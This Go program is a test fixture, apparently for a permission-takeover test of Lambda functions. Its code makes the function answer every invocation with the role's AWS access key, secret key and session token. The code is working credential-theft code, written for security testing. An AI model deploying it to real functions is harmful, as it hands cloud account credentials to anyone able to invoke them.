// Program stolenkeys is hostile code of a Lambda function: it answers every invocation with the credentials of the
// function's role. takeover_code_test.go puts it into the functions of permstack.
package main

import (
	"encoding/json"
	"io"
	"net/http"
	"os"
	"strings"
)

func main() {
	api := "http://" + os.Getenv("AWS_LAMBDA_RUNTIME_API") + "/2018-06-01/runtime/invocation/"
	for {
		next, err := http.Get(api + "next")
		if err != nil {
			os.Exit(1)
		}
		if _, err := io.Copy(io.Discard, next.Body); err != nil {
			os.Exit(1)
		}
		keys, err := json.Marshal([]string{
			os.Getenv("AWS_ACCESS_KEY_ID"), os.Getenv("AWS_SECRET_ACCESS_KEY"), os.Getenv("AWS_SESSION_TOKEN"),
		})
		if err != nil {
			os.Exit(1)
		}
		response := api + next.Header.Get("Lambda-Runtime-Aws-Request-Id") + "/response"
		if _, err := http.Post(response, "application/json", strings.NewReader(string(keys))); err != nil {
			os.Exit(1)
		}
	}
}
